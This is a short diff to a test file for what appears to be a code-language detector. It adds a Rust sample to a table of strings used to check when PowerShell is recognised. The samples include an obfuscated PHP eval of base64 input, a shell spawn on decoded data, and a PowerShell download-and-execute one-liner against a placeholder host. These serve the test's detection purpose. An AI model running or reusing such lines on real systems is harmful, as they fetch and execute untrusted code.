@@ -53,6 +53,7 @@ describe("the results of the stages", () => {
 
   it.each([
     ["php", "<?php eval(base64_decode($x)); // powershell", false],
+    ["rust", 'Command::new("sh").arg(base64::decode(x)); // powershell', false],
     ["sh", "iex (irm https://x.example); powershell -File a.ps1", true],
   ])("contain trees of PowerShell only if no other grammar reads it: %s", async (tag, text, is) => {
     const detector = await sharedDetector("extended");
